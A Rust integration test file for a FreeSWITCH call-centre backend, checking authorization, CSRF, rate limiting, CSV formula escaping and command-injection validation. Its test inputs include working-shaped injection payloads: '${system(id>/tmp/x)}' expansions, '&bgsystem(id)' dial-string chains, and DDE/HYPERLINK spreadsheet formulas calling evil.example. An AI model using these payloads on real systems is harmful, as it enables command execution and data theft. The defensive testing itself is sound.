    assert!(body["error"].as_str().unwrap().contains("c1"), "{body}");
    expect_error(
        app.post(
            "/api/calls/c1/move",
            Some(&sam),
            json!({ "queue": "billing" }),
        )
        .await,
        StatusCode::NOT_FOUND,
        "not_found",
    )
    .await;
    expect_error(
        app.post("/api/calls/c1/front", Some(&sam), json!({})).await,
        StatusCode::NOT_FOUND,
        "not_found",
    )
    .await;
    for bad in [
        json!({}),
        json!({ "queue": 7 }),
        json!({ "queue": "sales", "x": 1 }),
    ] {
        expect_error(
            app.post("/api/calls/c1/move", Some(&sam), bad).await,
            StatusCode::BAD_REQUEST,
            "bad_request",
        )
        .await;
    }

    // Listening in: the mode must be one of three, the endpoint one dial string.
    expect_error(
        app.post(
            "/api/agents/ann/eavesdrop",
            Some(&sam),
            json!({ "mode": "record", "endpoint": "user/1009" }),
        )
        .await,
        StatusCode::BAD_REQUEST,
        "bad_request",
    )
    .await;
    for endpoint in [
        "user/1009 &park()",
        "{origination_uuid=x}user/1009",
        "user/1009,user/1010",
        "user/1009\n",
        "",
    ] {
        let body = expect_error(
            app.post(
                "/api/agents/ann/eavesdrop",
                Some(&sam),
                json!({ "mode": "whisper", "endpoint": endpoint }),
            )
            .await,
            StatusCode::BAD_REQUEST,
            "bad_request",
        )
        .await;
        assert!(
            body["error"].as_str().unwrap().contains("endpoint"),
            "{body}"
        );
    }
    // sue has no phone of her own and gave none.
    let body = expect_error(
        app.post(
            "/api/agents/ann/eavesdrop",
            Some(&sue),
            json!({ "mode": "barge" }),
        )
        .await,
        StatusCode::BAD_REQUEST,
        "bad_request",
    )
    .await;
    assert!(
        body["error"].as_str().unwrap().contains("endpoint"),
        "{body}"
    );
    expect_error(
        app.post("/api/agents/nobody/eavesdrop", Some(&sam), listen.clone())
            .await,
        StatusCode::NOT_FOUND,
        "not_found",
    )
    .await;
    // sam's own endpoint is used; ann is in no call to listen to.
    let body = expect_error(
        app.post(
            "/api/agents/ann/eavesdrop",
            Some(&sam),
            json!({ "mode": "listen" }),
        )
        .await,
        StatusCode::CONFLICT,
        "conflict",
    )
    .await;
    assert!(
        body["error"].as_str().unwrap().contains("not in a call"),
        "{body}"
    );
    app.stop().await;
}

/// Who may call a route that changes something.
#[derive(Clone, Copy, Debug)]
enum Who {
    AtLeast(Role),
    /// The agent the path names (`ann`), or a supervisor+.
    TheAgent,
}

/// Every route that changes something: method, path, who may call it, and whether it reads a
/// body. A new route belongs here. (`POST /api/login` is public, `POST /api/logout` anyone's,
/// `POST /api/cdr` mod_xml_cdr's: see tests/cdr_ingest.rs.)
const STATE_CHANGING: &[(&str, &str, Who, bool)] = &[
    ("POST", "/api/users", Who::AtLeast(Role::Admin), true),
    ("POST", "/api/tokens", Who::AtLeast(Role::Admin), true),
    ("DELETE", "/api/tokens/t", Who::AtLeast(Role::Admin), false),
    ("PUT", "/api/queues/q", Who::AtLeast(Role::Admin), true),
    ("DELETE", "/api/queues/q", Who::AtLeast(Role::Admin), false),
    ("PUT", "/api/agents/ann", Who::AtLeast(Role::Admin), true),
    (
        "DELETE",
        "/api/agents/ann",
        Who::AtLeast(Role::Admin),
        false,
    ),
    ("POST", "/api/agents/ann/status", Who::TheAgent, true),
    (
        "POST",
        "/api/agents/ann/eavesdrop",
        Who::AtLeast(Role::Supervisor),
        true,
    ),
    (
        "POST",
        "/api/calls/c1/move",
        Who::AtLeast(Role::Supervisor),
        true,
    ),
    (
        "POST",
        "/api/calls/c1/front",
        Who::AtLeast(Role::Supervisor),
        false,
    ),
    ("POST", "/api/contacts", Who::AtLeast(Role::Agent), true),
    ("PUT", "/api/contacts/1", Who::AtLeast(Role::Agent), true),
    (
        "DELETE",
        "/api/contacts/1",
        Who::AtLeast(Role::Supervisor),
        false,
    ),
    (
        "POST",
        "/api/organizations",
        Who::AtLeast(Role::Agent),
        true,
    ),
    (
        "PUT",
        "/api/organizations/1",
        Who::AtLeast(Role::Agent),
        true,
    ),
    (
        "DELETE",
        "/api/organizations/1",
        Who::AtLeast(Role::Supervisor),
        false,
    ),
    ("POST", "/api/assets", Who::AtLeast(Role::Agent), true),
    ("PUT", "/api/assets/1", Who::AtLeast(Role::Agent), true),
    (
        "DELETE",
        "/api/assets/1",
        Who::AtLeast(Role::Supervisor),
        false,
    ),
    (
        "POST",
        "/api/phonebook/import?kind=contacts",
        Who::AtLeast(Role::Admin),
        true,
    ),
    (
        "POST",
        "/api/blocklist",
        Who::AtLeast(Role::Supervisor),
        true,
    ),
    (
        "PUT",
        "/api/blocklist/1",
        Who::AtLeast(Role::Supervisor),
        true,
    ),
    (
        "DELETE",
        "/api/blocklist/1",
        Who::AtLeast(Role::Supervisor),
        false,
    ),
    (
        "POST",
        "/api/blocklist/block-caller",
        Who::AtLeast(Role::Supervisor),
        true,
    ),
    ("POST", "/api/tickets", Who::AtLeast(Role::Agent), true),
    ("PATCH", "/api/tickets/1", Who::AtLeast(Role::Agent), true),
    (
        "POST",
        "/api/tickets/1/notes",
        Who::AtLeast(Role::Agent),
        true,
    ),
    (
        "PUT",
        "/api/billing/agents/ann",
        Who::AtLeast(Role::Manager),
        true,
    ),
    (
        "PUT",
        "/api/billing/organizations/1",
        Who::AtLeast(Role::Manager),
        true,
    ),
    (
        "POST",
        "/api/outbox/1/retry",
        Who::AtLeast(Role::Supervisor),
        false,
    ),
];

/// A caller below a route's role is refused before the body is read: a broken body gets
/// them 403 (401 without credentials), never a 400 that describes the body. The same broken
/// body from someone who may call the route is read, and refused with 400.
#[tokio::test]
async fn every_state_changing_route_checks_the_role_before_the_body() {
    let app = App::start().await;
    let token = |name: &'static str, role| {
        let store = app.store.clone();
        async move { users::add_api_token(&store, name, role).await.unwrap() }
    };
    let agent = token("agent", Role::Agent).await;
    let supervisor = token("supervisor", Role::Supervisor).await;
    let manager = token("manager", Role::Manager).await;
    let admin = token("admin", Role::Admin).await;
    let ann = token("ann", Role::Agent).await;
    let broken = "{\"name\": [";
    for &(method, path, who, reads_body) in STATE_CHANGING {
        let (below, allowed) = match who {
            Who::AtLeast(Role::Agent) => (None, &agent),
            Who::AtLeast(Role::Supervisor) => (Some(&agent), &supervisor),
            Who::AtLeast(Role::Manager) => (Some(&supervisor), &manager),
            Who::AtLeast(Role::Admin) => (Some(&manager), &admin),
            Who::TheAgent => (Some(&agent), &ann),
        };
        let send = |credential: Option<&String>| {
            let method = reqwest::Method::from_bytes(method.as_bytes()).unwrap();
            with(
                app.client.request(method, app.url(path)),
                credential.map(String::as_str),
            )
            .header(CONTENT_TYPE, "application/json")
            .body(broken)
            .send()
        };
        let response = send(below).await.unwrap();
        let (status, code) = match below {
            None => (StatusCode::UNAUTHORIZED, "unauthorized"),
            Some(_) => (StatusCode::FORBIDDEN, "forbidden"),
        };
        assert_eq!(response.status(), status, "{method} {path} as {who:?}");
        let body: Value = response.json().await.unwrap();
        assert_eq!(body["code"], code, "{method} {path}: {body}");
        if reads_body {
            let response = send(Some(allowed)).await.unwrap();
            assert_eq!(
                response.status(),
                StatusCode::BAD_REQUEST,
                "{method} {path} as {who:?} with a broken body"
            );
        }
    }
    app.stop().await;
}

/// Agents keep the phone book current, but what routes calls and faxes is a supervisor's:
/// an agent who changes an organization's fax mailboxes, fax numbers, number ranges, VIP flag
/// or priority (or a contact's VIP flag or priority), or sets one on a new record, gets 403
/// naming the field, and nothing is stored. An agent sending a record back with those fields
/// as they were edits it.
#[tokio::test]
async fn agents_may_not_change_the_fields_that_route_calls_and_faxes() {
    let app = App::start().await;
    app.add_user("ann", Role::Agent).await;
    app.add_user("sam", Role::Supervisor).await;
    let ann = app.login("ann").await;
    let sam = app.login("sam").await;
    let acme = json!({
        "name": "Acme",
        "numbers": [
            {"number": "+74951230000", "kind": "main"},
            {"number": "+74951230099", "kind": "fax"},
            {"number": "+7495123", "kind": "range"},
        ],
        "fax_mailboxes": ["fax@acme.example"],
        "vip": true,
        "priority": 2,
    });
    let created = app.post("/api/organizations", Some(&sam), acme).await;
    assert_eq!(created.status(), StatusCode::CREATED);
    let id = created.json::<Value>().await.unwrap()["id"]
        .as_i64()
        .unwrap();
    let path = format!("/api/organizations/{id}");
    let card: Value = app.get(&path, Some(&ann)).await.json().await.unwrap();

    // The record as the agent read it, renamed, with a note and another main number.
    let mut edited = card["organization"].clone();
    edited["name"] = json!("Acme Ltd");
    edited["notes"] = json!("moved to the 5th floor");
    edited["numbers"]
        .as_array_mut()
        .unwrap()
        .push(json!({"number": "8 495 123-00-01", "kind": "main"}));
    let response = app.put(&path, Some(&ann), edited.clone()).await;
    assert_eq!(response.status(), StatusCode::OK);

    let hijacks = [
        ("fax_mailboxes", json!(["thief@evil.example"])),
        ("vip", json!(false)),
        ("priority", json!(9)),
        (
            "numbers of kind fax",
            json!([{"number": "+74951230000", "kind": "main"}, {"number": "+74959999999", "kind": "fax"}, {"number": "+7495123", "kind": "range"}]),
        ),
        (
            "numbers of kind range",
            json!([{"number": "+74951230000", "kind": "main"}, {"number": "+74951230099", "kind": "fax"}, {"number": "+7499", "kind": "range"}]),
        ),
    ];
    for (field, value) in &hijacks {
        let key = if field.starts_with("numbers") {
            "numbers"
        } else {
            field
        };
        let mut hijack = edited.clone();
        hijack[key] = value.clone();
        let body = expect_error(
            app.put(&path, Some(&ann), hijack).await,
            StatusCode::FORBIDDEN,
            "forbidden",
        )
        .await;
        let message = body["error"].as_str().unwrap();
        assert!(
            message.contains(field) && message.contains("supervisor"),
            "{field}: {body}"
        );
        // Nor on a new record (judged against an empty one).
        let mut new = json!({"name": "Beta"});
        new[key] = if *value == json!(false) {
            json!(true)
        } else {
            value.clone()
        };
        expect_error(
            app.post("/api/organizations", Some(&ann), new).await,
            StatusCode::FORBIDDEN,
            "forbidden",
        )
        .await;
    }
    let stored: Organization = app.store.record(id).await.unwrap();
    assert_eq!(stored.name, "Acme Ltd");
    assert_eq!(stored.fax_mailboxes, vec!["fax@acme.example"]);
    assert!(stored.vip);
    assert_eq!(stored.numbers.len(), 4);
    assert_eq!(
        app.store
            .records_after::<Organization>(0, 10)
            .await
            .unwrap()
            .len(),
        1,
        "no organization was created by the refused requests"
    );
    // A new organization with everyday fields only is the agent's to create...
    let beta = json!({"name": "Beta", "numbers": [{"number": "+74957770000", "kind": "main"}]});
    assert_eq!(
        app.post("/api/organizations", Some(&ann), beta)
            .await
            .status(),
        StatusCode::CREATED
    );
    // ...and the guarded fields are the supervisor's.
    let mut moved = edited.clone();
    moved["fax_mailboxes"] = json!(["faxes@acme.example"]);
    assert_eq!(
        app.put(&path, Some(&sam), moved).await.status(),
        StatusCode::OK
    );

    // Contacts: VIP and priority.
    let body = expect_error(
        app.post(
            "/api/contacts",
            Some(&ann),
            json!({"first_name": "Ivan", "vip": true}),
        )
        .await,
        StatusCode::FORBIDDEN,
        "forbidden",
    )
    .await;
    assert!(body["error"].as_str().unwrap().contains("vip"), "{body}");
    let ivan = app
        .post(
            "/api/contacts",
            Some(&ann),
            json!({"first_name": "Ivan", "organization_id": id}),
        )
        .await;
    assert_eq!(ivan.status(), StatusCode::CREATED);
    let ivan: Value = ivan.json().await.unwrap();
    let contact_path = format!("/api/contacts/{}", ivan["id"]);
    let mut raised = ivan.clone();
    raised["priority"] = json!(3);
    let body = expect_error(
        app.put(&contact_path, Some(&ann), raised.clone()).await,
        StatusCode::FORBIDDEN,
        "forbidden",
    )
    .await;
    assert!(
        body["error"].as_str().unwrap().contains("priority"),
        "{body}"
    );
    raised["vip"] = json!(true);
    assert_eq!(
        app.put(&contact_path, Some(&sam), raised.clone())
            .await
            .status(),
        StatusCode::OK
    );
    // The agent's edit form sends the standing back as it was: that is fine.
    raised["last_name"] = json!("Petrov");
    assert_eq!(
        app.put(&contact_path, Some(&ann), raised).await.status(),
        StatusCode::OK
    );
    let stored: Contact = app
        .store
        .record(ivan["id"].as_i64().unwrap())
        .await
        .unwrap();
    assert_eq!(
        (stored.last_name.as_str(), stored.vip, stored.priority),
        ("Petrov", true, 3)
    );
    app.stop().await;
}

/// Every CSV export writes a cell a spreadsheet would run as a formula as text (a leading
/// `'`), keeps phone numbers and amounts as they are, and quotes every field; the phone book's
/// export imports back to the same names.
#[tokio::test]
async fn csv_exports_write_formulas_as_text() {
    let app = App::start().await;
    app.add_user("ada", Role::Admin).await;
    let ada = app.login("ada").await;
    let names = [
        "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "-1+1",
        "+cmd|' /C calc'!A0",
    ];
    for (i, name) in names.iter().enumerate() {
        let created = app
            .post(
                "/api/organizations",
                Some(&ada),
                json!({"name": name, "numbers": [{"number": format!("+7495555000{i}"), "kind": "main"}], "priority": -1}),
            )
            .await;
        assert_eq!(created.status(), StatusCode::CREATED);
        let id = created.json::<Value>().await.unwrap()["id"]
            .as_i64()
            .unwrap();
        let fee = app
            .put(
                &format!("/api/billing/organizations/{id}"),
                Some(&ada),
                json!({"monthly_fee_cents": 1000}),
            )
            .await;
        assert_eq!(fee.status(), StatusCode::OK);
    }
    let cells = |text: &str| -> Vec<Vec<String>> {
        csv::Reader::from_reader(text.as_bytes())
            .records()
            .map(|r| r.unwrap().iter().map(str::to_owned).collect())
            .collect()
    };
    let phonebook = app
        .get("/api/phonebook/export?kind=organizations", Some(&ada))
        .await
        .text()
        .await
        .unwrap();
    let report = app
        .get(
            "/api/reports/profitability?from=2020-01-01&format=csv",
            Some(&ada),
        )
        .await
        .text()
        .await
        .unwrap();
    for (text, name_column) in [(&phonebook, 1), (&report, 1)] {
        assert!(text.starts_with('"'), "every field is quoted: {text}");
        let rows = cells(text);
        let mut written: Vec<&str> = rows.iter().map(|r| r[name_column].as_str()).collect();
        written.sort_unstable();
        let mut expected: Vec<String> = names.iter().map(|n| format!("'{n}")).collect();
        expected.sort();
        assert_eq!(written, expected, "{text}");
        for cell in rows.iter().flatten() {
            let formula = cell.starts_with(['=', '+', '-', '@', '\t', '\r'])
                && !cell
                    .trim_start_matches(['+', '-'])
                    .chars()
                    .all(|c| c.is_ascii_digit() || c == '.');
            assert!(!formula, "{cell:?} in {text}");
        }
    }
    // Numbers stay numbers: the priority, and the phone numbers inside `phones`.
    assert!(phonebook.contains("\"-1\""), "{phonebook}");
    assert!(phonebook.contains("\"main:+74955550000\""), "{phonebook}");

    // Importing the export gives the names back as they were typed.
    let imported = with(
        app.client
            .post(app.url("/api/phonebook/import?kind=organizations")),
        Some(&ada),
    )
    .header(CONTENT_TYPE, "text/csv")
    .body(phonebook.clone())
    .send()
    .await
    .unwrap();
    assert_eq!(imported.status(), StatusCode::OK);
    let report: Value = imported.json().await.unwrap();
    assert_eq!(report["saved"], 4, "{report}");
    let mut stored: Vec<String> = app
        .store
        .records_after::<Organization>(0, 100)
        .await
        .unwrap()
        .into_iter()
        .map(|o| o.name)
        .collect();
    stored.sort();
    let mut twice: Vec<String> = names.iter().chain(&names).map(|n| n.to_string()).collect();
    twice.sort();
    assert_eq!(stored, twice);
    app.stop().await;
}

/// A NUL character reaches no database: in a JSON body (named by its field), a query
/// parameter or the path it is refused with 400, and nothing is stored. And when the
/// database does fail, the answer carries an error id, never the database's words.
async fn text_with_a_nul_is_refused_and_database_errors_stay_in_the_log(db: TestDbRef) {
    let app = App::on(&db.store, &db.url).await;
    app.add_user("sam", Role::Supervisor).await;
    let sam = app.login("sam").await;

    let body = expect_error(
        app.post(
            "/api/contacts",
            Some(&sam),
            json!({"first_name": "Iv\u{0}an"}),
        )
        .await,
        StatusCode::BAD_REQUEST,
        "bad_request",
    )
    .await;
    assert!(
        body["error"].as_str().unwrap().contains("body.first_name"),
        "{body}"
    );
    let body = expect_error(
        app.post(
            "/api/organizations",
            Some(&sam),
            json!({"name": "Acme", "numbers": [{"number": "+7495\u{0}"}]}),
        )
        .await,
        StatusCode::BAD_REQUEST,
        "bad_request",
    )
    .await;
    assert!(
        body["error"]
            .as_str()
            .unwrap()
            .contains("body.numbers[0].number"),
        "{body}"
    );
    for path in [
        "/api/contacts/search?q=iv%00an",
        "/api/tickets?caller_number=%2B7495%00",
        "/api/blocklist/check?number=%00",
        "/api/agents/sam%00",
    ] {
        let body = expect_error(
            app.get(path, Some(&sam)).await,
            StatusCode::BAD_REQUEST,
            "bad_request",
        )
        .await;
        assert!(
            body["error"].as_str().unwrap().contains("NUL"),
            "{path}: {body}"
        );
    }
    let nothing: Vec<Contact> = db.store.records_after(0, 10).await.unwrap();
    assert!(nothing.is_empty(), "{nothing:?}");
    // The same text without the NUL is stored.
    assert_eq!(
        app.post("/api/contacts", Some(&sam), json!({"first_name": "Ivan"}))
            .await
            .status(),
        StatusCode::CREATED
    );

    db.drop_table("tickets").await;
    let response = app.get("/api/tickets", Some(&sam)).await;
    let body = expect_error(response, StatusCode::INTERNAL_SERVER_ERROR, "internal").await;
    let text = body.to_string();
    for leak in [
        "tickets",
        "no such table",
        "relation",
        "SELECT",
        "database",
        "sqlx",
    ] {
        assert!(!text.contains(leak), "{leak:?} in {text}");
    }
    assert!(text.contains("internal error "), "{text}");
    app.stop().await;
}

on_both_backends!(text_with_a_nul_is_refused_and_database_errors_stay_in_the_log);

/// Writes riding on the session cookie must come from this site's own pages: a page elsewhere
/// (or a request naming no page at all) is refused before anything changes.
#[tokio::test]
async fn cross_site_writes_with_a_session_cookie_are_refused() {
    let app = App::start().await;
    app.add_user("ada", Role::Admin).await;
    let ada = app.login("ada").await;
    // A client that sends no Origin of its own.
    let bare = Client::new();
    let organizations = || {
        let (app, ada) = (&app, &ada);
        async move {
            app.get("/api/organizations", Some(ada))
                .await
                .text()
                .await
                .unwrap()
        }
    };
    let body = json!({ "name": "Forged Ltd" });

    let evil = app
        .client
        .post(app.url("/api/organizations"))
        .header(COOKIE, &ada)
        .header(ORIGIN, "http://evil.example")
        .json(&body)
        .send()
        .await
        .unwrap();
    expect_error(evil, StatusCode::FORBIDDEN, "forbidden").await;
    let no_origin = bare
        .post(app.url("/api/organizations"))
        .header(COOKIE, &ada)
        .json(&body)
        .send()
        .await
        .unwrap();
    expect_error(no_origin, StatusCode::FORBIDDEN, "forbidden").await;
    let evil_referer = bare
        .post(app.url("/api/organizations"))
        .header(COOKIE, &ada)
        .header(REFERER, "http://evil.example/page")
        .json(&body)
        .send()
        .await
        .unwrap();
    expect_error(evil_referer, StatusCode::FORBIDDEN, "forbidden").await;
    assert!(!organizations().await.contains("Forged"));

    // The import takes a file only with a type no cross-site form can send.
    let csv = "external_id,first_name,last_name\nc-9,Eve,Forger\n";
    for (origin, content_type, status) in [
        ("http://evil.example", "text/plain", StatusCode::FORBIDDEN),
        (
            app.base.as_str(),
            "text/plain",
            StatusCode::UNSUPPORTED_MEDIA_TYPE,
        ),
        (
            app.base.as_str(),
            "application/x-www-form-urlencoded",
            StatusCode::UNSUPPORTED_MEDIA_TYPE,
        ),
    ] {
        let response = app
            .client
            .post(app.url("/api/phonebook/import?kind=contacts"))
            .header(COOKIE, &ada)
            .header(ORIGIN, origin)
            .header(CONTENT_TYPE, content_type)
            .body(csv)
            .send()
            .await
            .unwrap();
        assert_eq!(response.status(), status, "{origin} {content_type}");
    }
    let contacts = app.get("/api/contacts", Some(&ada)).await.text().await;
    assert!(!contacts.unwrap().contains("Forger"));

    // Bodiless writes too: signing out from another site leaves the session alone.
    let logout = app
        .client
        .post(app.url("/api/logout"))
        .header(COOKIE, &ada)
        .header(ORIGIN, "http://evil.example")
        .send()
        .await
        .unwrap();
    expect_error(logout, StatusCode::FORBIDDEN, "forbidden").await;
    let delete = app
        .client
        .delete(app.url("/api/tokens/anything"))
        .header(COOKIE, &ada)
        .header(ORIGIN, "null")
        .send()
        .await
        .unwrap();
    expect_error(delete, StatusCode::FORBIDDEN, "forbidden").await;
    assert_eq!(
        app.get("/api/me", Some(&ada)).await.status(),
        StatusCode::OK
    );
    // Nor can another site sign a browser in (to an account of its choosing).
    let login = app
        .client
        .post(app.url("/api/login"))
        .header(ORIGIN, "http://evil.example")
        .json(&json!({ "name": "ada", "password": "ada-password" }))
        .send()
        .await
        .unwrap();
    assert!(login.headers().get(SET_COOKIE).is_none());
    expect_error(login, StatusCode::FORBIDDEN, "forbidden").await;

    // From the dashboard itself: by Origin, or by Referer from a browser that sends no Origin.
    let ours = app
        .post("/api/organizations", Some(&ada), body.clone())
        .await;
    assert_eq!(ours.status(), StatusCode::CREATED);
    let by_referer = bare
        .post(app.url("/api/organizations"))
        .header(COOKIE, &ada)
        .header(REFERER, app.url("/#admin"))
        .json(&json!({ "name": "Referred Ltd" }))
        .send()
        .await
        .unwrap();
    assert_eq!(by_referer.status(), StatusCode::CREATED);
    // API tokens are not sent by browsers on their own: no Origin needed.
    let token = users::add_api_token(&app.store, "script", Role::Admin)
        .await
        .unwrap();
    let scripted = bare
        .post(app.url("/api/organizations"))
        .header(AUTHORIZATION, format!("Bearer {token}"))
        .json(&json!({ "name": "Scripted Ltd" }))
        .send()
        .await
        .unwrap();
    assert_eq!(scripted.status(), StatusCode::CREATED);
    let listed = organizations().await;
    assert!(
        listed.contains("Forged Ltd")
            && listed.contains("Referred Ltd")
            && listed.contains("Scripted Ltd"),
        "{listed}"
    );
    app.stop().await;
}

/// The `Retry-After` of a 429, in seconds.
fn retry_after(response: &Response) -> u64 {
    response.headers()[RETRY_AFTER]
        .to_str()
        .unwrap()
        .parse()
        .unwrap()
}

/// Signs in through a proxy that says the client is `forwarded_for`.
async fn login_from(app: &App, name: &str, password: &str, forwarded_for: &str) -> Response {
    app.client
        .post(app.url("/api/login"))
        .header("x-forwarded-for", forwarded_for)
        .json(&json!({ "name": name, "password": password }))
        .send()
        .await
        .unwrap()
}

#[tokio::test]
async fn wrong_passwords_lock_the_name_out_even_for_the_right_one() {
    let app = App::start().await;
    app.add_user("alice", Role::Agent).await;
    app.add_user("bob", Role::Agent).await;
    for _ in 0..5 {
        let wrong = app.try_login("alice", "not-her-password").await;
        assert_eq!(wrong.status(), StatusCode::UNAUTHORIZED);
    }
    let locked = app.try_login("alice", "alice-password").await;
    assert!(locked.headers().get(SET_COOKIE).is_none());
    let wait = retry_after(&locked);
    assert!((1..=30).contains(&wait), "Retry-After: {wait}");
    expect_error(locked, StatusCode::TOO_MANY_REQUESTS, "too_many_requests").await;
    // Others from the same address sign in.
    app.login("bob").await;
    app.stop().await;
}

#[tokio::test]
async fn an_address_guessing_many_names_waits_and_other_addresses_do_not() {
    let app = App::start_with(|config| {
        config.http.trusted_proxies = vec!["127.0.0.1".parse().unwrap()];
    })
    .await;
    app.add_user("alice", Role::Agent).await;
    for n in 0..20 {
        let name = format!("guess{n}");
        let wrong = login_from(&app, &name, "password1", "203.0.113.9").await;
        assert_eq!(wrong.status(), StatusCode::UNAUTHORIZED);
    }
    let held = login_from(&app, "alice", "alice-password", "203.0.113.9").await;
    assert!(retry_after(&held) >= 1);
    expect_error(held, StatusCode::TOO_MANY_REQUESTS, "too_many_requests").await;
    // A client behind the proxy cannot claim another address by prepending one.
    let forged = login_from(&app, "alice", "alice-password", "10.1.1.1, 203.0.113.9").await;
    assert_eq!(forged.status(), StatusCode::TOO_MANY_REQUESTS);
    let elsewhere = login_from(&app, "alice", "alice-password", "203.0.113.10").await;
    assert_eq!(elsewhere.status(), StatusCode::OK);
    app.stop().await;
}

#[tokio::test]
async fn forwarded_for_from_an_untrusted_peer_is_ignored() {
    let app = App::start().await;
    app.add_user("alice", Role::Agent).await;
    for n in 0..20 {
        let address = format!("198.51.100.{n}");
        let wrong = login_from(&app, &format!("guess{n}"), "password1", &address).await;
        assert_eq!(wrong.status(), StatusCode::UNAUTHORIZED);
    }
    let held = login_from(&app, "alice", "alice-password", "198.51.100.200").await;
    expect_error(held, StatusCode::TOO_MANY_REQUESTS, "too_many_requests").await;
    app.stop().await;
}

/// Sockets that send nothing, half a request head or half a body are closed after the header
/// or body timeout, and while they are open the server still answers others once a slot
/// frees.
#[tokio::test]
async fn idle_connections_are_closed_and_do_not_starve_the_server() {
    use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};

    let app = App::start_with(|config| {
        config.http.max_connections = 8;
        config.http.header_read_timeout_secs = 1;
        config.http.body_timeout_secs = 1;
    })
    .await;
    app.add_user("alice", Role::Agent).await;
    let address = app.base.trim_start_matches("http://").to_string();
    // Nothing, half a head, or a whole head and half the body it announces.
    let starts: [&[u8]; 3] = [
        b"",
        b"GET /healthz HTTP/1.1\r\nHost: x\r\n",
        b"POST /api/login HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n\
          Content-Length: 100\r\n\r\n{\"name\":",
    ];
    let mut idle = Vec::new();
    for n in 0..58 {
        let mut socket = tokio::net::TcpStream::connect(&address).await.unwrap();
        socket.write_all(starts[n % 3]).await.unwrap();
        idle.push(socket);
    }
    // A generous bound on the whole test, not a timing assertion.
    let bound = Duration::from_secs(60);
    let client = Client::builder()
        .pool_max_idle_per_host(0)
        .timeout(bound)
        .build()
        .unwrap();
    let health = client.get(app.url("/healthz")).send().await.unwrap();
    assert_eq!(health.status(), StatusCode::OK);
    let login = client
        .post(app.url("/api/login"))
        .json(&json!({ "name": "alice", "password": "alice-password" }))
        .send()
        .await
        .unwrap();
    assert_eq!(login.status(), StatusCode::OK);
    tokio::time::timeout(bound, async {
        for socket in &mut idle {
            let mut rest = Vec::new();
            // End of stream or a reset: either way the server let go of it.
            let _ = socket.read_to_end(&mut rest).await;
        }
    })
    .await
    .expect("every idle socket is closed by the server");
    app.stop().await;
}

/// Values that go into FreeSWITCH commands are refused when they would expand (`${...}`), chain
/// an application (`&app`) or add arguments, with the field and the reason, and nothing of the
/// request is stored.
#[tokio::test]
async fn values_freeswitch_would_expand_or_split_are_refused_and_not_stored() {
    let app = App::start().await;
    app.add_user("root", Role::Admin).await;
    app.add_user("sam", Role::Supervisor).await;
    let admin = app.login("root").await;
    let sam = app.login("sam").await;
    let refused = |body: Value, field: &'static str, reason: &'static str| {
        let error = body["error"].as_str().unwrap_or_default().to_owned();
        assert!(error.contains(field), "{field} not named: {body}");
        assert!(error.contains(reason), "{reason} not given: {body}");
    };

    // A supervisor's blocklist prompt (it became `execute-app-arg: ${system(...)}`).
    let prompt = json!({
        "match": {"type": "number", "value": "+74951234567"},
        "direction": "inbound",
        "treatment": {"type": "prompt", "file": "${system(id>/tmp/x)}"}
    });
    let body = expect_error(
        app.post("/api/blocklist", Some(&sam), prompt).await,
        StatusCode::BAD_REQUEST,
        "bad_request",
    )
    .await;
    refused(body, "file", "'$'");
    let transfer = json!({
        "match": {"type": "number", "value": "+74951234567"},
        "direction": "inbound",
        "treatment": {"type": "transfer", "extension": "voicemail XML other_ctx"}
    });
    let body = expect_error(
        app.post("/api/blocklist", Some(&sam), transfer).await,
        StatusCode::BAD_REQUEST,
        "bad_request",
    )
    .await;
    refused(body, "extension", "' '");
    let body = expect_error(
        app.post(
            "/api/blocklist/block-caller",
            Some(&sam),
            json!({"call": "c1", "treatment": {"type": "prompt", "file": "say:${bgsystem id}"}}),
        )
        .await,
        StatusCode::BAD_REQUEST,
        "bad_request",
    )
    .await;
    refused(body, "file", "'$'");
    assert!(app.store.blocks().await.unwrap().is_empty());

    // An admin's queue settings: a good queue first, then each bad edit of it.
    let good = json!({ "prompts": { "hold_music": "local_stream://moh" } });
    let saved = app.put("/api/queues/support", Some(&admin), good).await;
    assert_eq!(saved.status(), StatusCode::NO_CONTENT);
    let before = app.store.queues().await.unwrap();
    for (body, field, reason) in [
        (
            json!({ "prompts": { "hold_music": "${system(id>/tmp/x)}" } }),
            "prompts.hold_music",
            "'$'",
        ),
        (
            json!({ "prompts": { "position": ["ivr/a.wav", "{system}"] } }),
            "prompts.position",
            "placeholder",
        ),
        (
            json!({ "exit_key": "0", "exit_extension": "voicemail XML other_ctx" }),
            "exit_extension",
            "' '",
        ),
        (
            json!({ "callbacks": { "key": "1", "dial": "user/{number}@pstn &bgsystem(id)" } }),
            "callbacks.dial",
            "'&'",
        ),
        (
            json!({ "overflow": { "to": "extension", "target": "voicemail|user/1" } }),
            "overflow",
            "'|'",
        ),
        (
            json!({ "callbacks": { "caller_id_name": "x',origination_uuid=y" } }),
            "callbacks.caller_id_name",
            "quotes",
        ),
    ] {
        let response = app.put("/api/queues/support", Some(&admin), body).await;
        let body = expect_error(response, StatusCode::BAD_REQUEST, "bad_request").await;
        refused(body, field, reason);
    }
    assert_eq!(app.store.queues().await.unwrap(), before);

    // An agent's endpoint goes into an originate after switchdesk's own variables.
    let body = expect_error(
        app.put(
            "/api/agents/ann",
            Some(&admin),
            json!({ "endpoint": "user/1001@default&bgsystem(id)", "queues": [] }),
        )
        .await,
        StatusCode::BAD_REQUEST,
        "bad_request",
    )
    .await;
    refused(body, "endpoint", "'&'");
    assert!(app.store.agents().await.unwrap().is_empty());

    // A value stored before these checks (or by hand) is refused when read, with the reason.
    let mut raw = sqlx::AnyConnection::connect(&app._db.as_ref().unwrap().url)
        .await
        .unwrap();
    raw.execute(
        "UPDATE acd_queues SET config = REPLACE(config, 'local_stream://moh', '${system(id)}')",
    )
    .await
    .unwrap();
    raw.close().await.unwrap();
    let error = app.store.queues().await.unwrap_err().to_string();
    assert!(
        error.contains("support") && error.contains("'$'"),
        "{error}"
    );
    app.stop().await;
}
